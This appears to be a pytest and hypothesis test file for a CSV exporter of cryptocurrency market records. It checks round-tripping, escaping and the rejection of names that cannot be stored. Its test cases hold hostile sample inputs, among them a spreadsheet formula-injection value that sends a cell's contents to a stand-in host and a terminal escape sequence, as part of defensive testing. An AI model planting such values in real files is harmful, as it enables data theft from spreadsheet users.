"""The CSV of the markets: it comes back as it was, and is no formula and no command to anybody."""

import csv
import io

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from commands.coins import as_stored
from commands.coins_csv import read_records, write_records
from commands.errors import CoinsError
from database import CoinMetadata, CoinRecord
from market.markets import Exchange, Market
from market.timeframes import Timeframe
from texts.printable import escaped

# What PostgreSQL can hold, with the characters that mean something to CSV, terminals, spreadsheets
# and our own escapes.
_ODD = st.sampled_from(list("=+-@\t\r\n'\"\\;, x\x1b\x9b\u202e\u00a0＝"))
NAMES = st.text(_ODD | st.characters(exclude_characters="\0", codec="utf-8"), max_size=12)
TIMES = st.integers(0, 10**15 - 1)
NUMBERS = st.floats(allow_nan=False, allow_infinity=False)
META = {"hurst": None, "entropy": None, "realised_volatility": None}


@st.composite
def records(draw: st.DrawFn) -> CoinRecord:
    market = Market(
        draw(st.sampled_from(Exchange)),
        draw(NAMES.filter(bool)),
        draw(NAMES),
        draw(NAMES),
        draw(TIMES),
    )
    other = st.dictionaries(NAMES.filter(lambda name: name and name != "computed_at_ms"), NUMBERS)
    known = st.fixed_dictionaries({name: st.none() | NUMBERS for name in META})
    metadata = draw(st.dictionaries(st.sampled_from(Timeframe), st.tuples(known, other, TIMES)))
    return CoinRecord(
        market,
        draw(st.booleans()),
        draw(st.booleans()),
        draw(st.none() | NUMBERS),
        draw(TIMES),
        draw(TIMES),
        {tf: CoinMetadata({**own, **more}, at) for tf, (own, more, at) in metadata.items()},
    )


def written(stored: list[CoinRecord]) -> str:
    text = io.StringIO()
    write_records(stored, text)
    return text.getvalue()


def facts(record: CoinRecord) -> object:
    """Everything that is stored; a number that is not known is none of them."""
    numbers = {
        (tf, name): number
        for tf, known in record.metadata.items()
        for name, number in known.values.items()
        if number is not None
    }
    market = record.market
    return (
        (market.exchange, market.symbol, market.base, market.quote, market.launched_ms),
        (record.active, record.enabled, record.turnover_24h),
        (record.first_seen_ms, record.last_seen_ms, numbers),
        {tf: known.computed_at_ms for tf, known in record.metadata.items()},
    )


@settings(max_examples=60, deadline=None)
@given(st.lists(records(), max_size=4, unique_by=lambda record: record.market.key))
def test_what_is_written_is_read_back_whatever_the_names(stored: list[CoinRecord]) -> None:
    text = written(stored)
    back = read_records(io.StringIO(text, newline=""), {}, now_ms=1)
    assert list(map(facts, back)) == list(map(facts, stored))
    # Read over what is stored, it changes nothing.
    known = {record.market.key: record for record in stored}
    over = read_records(io.StringIO(text, newline=""), known, now_ms=1)
    assert list(map(facts, over)) == list(map(facts, stored))


@settings(max_examples=60, deadline=None)
@given(st.lists(records(), max_size=3, unique_by=lambda record: record.market.key))
def test_no_cell_is_a_formula_or_a_command(stored: list[CoinRecord]) -> None:
    text = written(stored)
    assert all(sign.isprintable() or sign == "\n" for sign in text)
    header, *rows = csv.reader(io.StringIO(text))
    assert len(rows) == len(stored)
    for row in rows:
        for column, cell in zip(header, row, strict=True):
            if cell.startswith(("=", "+", "-", "@", "＝", "＋", "－", "＠")):
                float(cell)  # a number, which nobody of others writes
                assert column not in ("symbol", "base", "quote")
    assert not any(cell.startswith(("=", "+", "-", "@", "'")) for cell in header)
    # Where semicolons part cells, nothing of a name begins one.
    assert ";" not in text


@pytest.mark.parametrize(
    ("name", "cell"),
    [
        ('=HYPERLINK("http://x.example/"&A1)USDT', '\'=HYPERLINK("http://x.example/"&A1)USDT'),
        ("@SUM(1)USDT", "'@SUM(1)USDT"),
        ("'tick", "''tick"),
        ("\x1b]0;title", r"\x1b]0\x3btitle"),
        ("A\nB", r"A\nB"),
        (" A ", r"\x20A\x20"),
        ("  ", r"\x20\x20"),
        ("\t=1", r"\t=1"),
        ("币安人生USDT", "币安人生USDT"),
    ],
)
def test_how_a_name_is_written(name: str, cell: str) -> None:
    market = Market(Exchange.BYBIT, name, "B", "USDT")
    (row,) = csv.DictReader(
        io.StringIO(written([CoinRecord(market, True, True, None, 1, 1, {})]), newline="")
    )
    assert row["symbol"] == cell
    assert as_stored(escaped(f"bybit:{name}")) == f"bybit:{name}"


def test_an_empty_name_is_told_from_an_absent_one() -> None:
    stored = CoinRecord(Market(Exchange.BYBIT, "A", " ", ""), True, True, None, 1, 1, {})
    (back,) = read_records(io.StringIO(written([stored]), newline=""), {}, now_ms=1)
    assert (back.market.base, back.market.quote) == (" ", "")


@pytest.mark.parametrize(
    ("cell", "message"),
    [
        (r"A\q", r"line 2: symbol 'A\\q': a backslash begins"),
        (r"A\x00", "line 2: symbol has a character that the database cannot store"),
        (r"A\ud800", "line 2: symbol has a character that the database cannot store"),
        ("A\x1b", "line 2: symbol has unprintable characters"),
        ("'", f"line 2: exchange must be one of {', '.join(Exchange)}, symbol not empty"),
    ],
)
def test_a_name_that_cannot_be_read_is_named_by_its_line(cell: str, message: str) -> None:
    text = f"exchange,symbol,base,quote\nbinance,{cell},A,USDT\n"
    with pytest.raises(CoinsError) as refused:
        read_records(io.StringIO(text, newline=""), {}, now_ms=1)
    assert str(refused.value).startswith(message)
    with pytest.raises(CoinsError, match="a backslash begins"):
        as_stored("binance:\\q")
